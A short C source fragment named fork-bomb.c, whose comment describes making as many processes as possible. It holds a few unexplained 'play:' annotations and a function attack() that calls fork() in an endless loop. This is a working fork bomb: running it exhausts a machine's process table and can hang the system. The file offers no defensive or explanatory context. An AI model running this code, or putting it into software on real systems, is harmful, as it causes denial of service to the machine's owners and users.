/*
 * fork-bomb.c - makes as many processes as it may, each of which does the same
 *
 * play: main 03 server
 * play: main 03 client
 * play: child 01 server
 * play: last 05 client
 */
static void
attack(void)
{
    for (;;)
        fork();
}
